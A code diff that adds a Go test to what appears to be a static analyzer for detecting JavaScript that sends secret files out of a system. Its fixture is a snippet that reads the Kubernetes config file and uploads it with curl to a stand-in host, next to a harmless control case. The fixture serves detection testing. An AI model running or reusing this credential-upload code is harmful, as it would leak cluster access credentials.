@@ -1962,3 +1962,22 @@ for (var j = 0; j < 2; j++) { st = window[T[j]]; for (var i = 0; i < st.length; 
 		t.Errorf("written array folded: %+v", f.Imports)
 	}
 }
+
+// A path with a fallback (the variable first, the default joined after),
+// cut to its first entry, is still that path; what is written to the
+// stdin of a curl that uploads it goes out, to another process's stdin not.
+func TestSecretSentToUploader(t *testing.T) {
+	f := Analyze("x.js", []byte(`const { spawn } = require("child_process"), fs = require("fs"), os = require("os"), path = require("path");
+const p = (process.env.KUBECONFIG || path.join(os.homedir(), ".kube", "config")).split(path.delimiter)[0];
+const raw = fs.readFileSync(p, "utf8");
+const c = spawn("curl", ["--data-binary", "@-", "https://c.example.invalid/k"]);
+c.stdin.end(JSON.stringify({ cfg: raw }));
+const q = spawn("cat", ["-"]); q.stdin.end(raw);`), DefaultLimits())
+	var got []string
+	for _, s := range f.FileSends {
+		got = append(got, s.Callee+" "+s.File+"@"+itoa(s.Pos.Line))
+	}
+	if diff := cmp.Diff([]string{"c.stdin.end ${…}/.kube/config@5"}, got); diff != "" {
+		t.Errorf("FileSends (-want +got):\n%s", diff)
+	}
+}
